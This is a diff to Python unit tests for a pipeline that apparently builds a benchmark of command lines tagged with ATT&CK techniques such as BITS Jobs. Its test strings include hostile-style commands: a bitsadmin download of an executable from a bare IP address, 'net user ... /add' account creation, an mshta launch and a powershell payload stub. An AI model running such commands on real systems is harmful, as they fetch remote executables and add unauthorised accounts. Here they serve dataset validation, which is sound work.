@@ -51,9 +51,13 @@ def test_validity_and_placeholder_filters_on_real_rows(data_dir):
     tldr = [r["text"] for r in D.iter_rows(str(data_dir / "cmdlines" / "dev.jsonl.gz")) if r["source"] == "tldr-pages"]
     hit = np.mean([bool(PLACEHOLDER.search(t)) for t in tldr])
     assert hit > 0.2, hit
-    for t in ("http://example.com/login", "powershell -c <payload>", "copy {PATH} x", "Dear [Recipient],"):
+    for t in ("http://example.com/login", "powershell -c <payload>", "copy {PATH} x", "Dear [Recipient],",
+              r"powershell -File C:\Users\[User]\Downloads\[FileName].ps1", "net stop service_name",
+              r"EXCEL.EXE C:\Users\username\Documents\q3.xlsx"):
         assert PLACEHOLDER.search(t), t
-    assert not PLACEHOLDER.search("https://login.microsoftonline.com/common/oauth2/authorize")
+    for t in ("https://login.microsoftonline.com/common/oauth2/authorize", '[System.IO.File]::ReadAllText("a.txt")',
+              r"C:\Users\jdoe\AppData\Local\a.exe", "net user username /add"):
+        assert not PLACEHOLDER.search(t), t
 
 
 def test_generated_command_lines_repaired_and_prose_refused(data_dir):
@@ -70,7 +74,8 @@ def test_generated_command_lines_repaired_and_prose_refused(data_dir):
     assert fixed == [r"mshta c:\temp\task.hta", r"robocopy C:\backup D:\backup2 /MIR", r"type C:\files\readme.txt"]
     assert all(valid(cmd, t, we) for t in fixed)
     assert is_prose("creating a new user account with specific permissions")
-    assert not is_prose("net user backup P4ss /add") and not is_prose("echo done")
+    assert is_prose("Windows Update Service") and is_prose("PDF Reader Update")
+    assert not is_prose("net user backup P4ss /add") and not is_prose("echo done") and not is_prose("Get-Process")
     real = [r["text"] for _, r in zip(range(5000), D.iter_rows(str(data_dir / "cmdlines" / "train.jsonl.gz")))]
     assert np.mean([is_prose(t) for t in real]) < 0.01
     assert np.mean([repair_cmdline(t) == t for t in real]) > 0.99
@@ -149,6 +154,9 @@ def test_items_that_echo_the_prompt_are_caught():
     e = [x for x in load_taxonomy(load_task("cmdlines")) if x.id == "T1197"][0]
     assert echoes_prompt("BITS Jobs (T1197): bitsadmin /create, /addfile to download and run a payload", e)
     assert echoes_prompt("bitsadmin /create, /addfile, /SetNotifyCmdLine, /resume", e)
+    # the answer's label or the task's name written into the item as if it were a path
+    assert echoes_prompt("cmdlines/benign/IT_management_agent_backup_script.bat", e)
+    assert echoes_prompt("cmdlines: backup_script_1", e) and not echoes_prompt("ls -la /srv/benign", e)
     assert not echoes_prompt("bitsadmin /transfer upd /download /priority foreground http://91.2.3.4/a.exe C:\\Users\\Public\\a.exe", e)
 
 
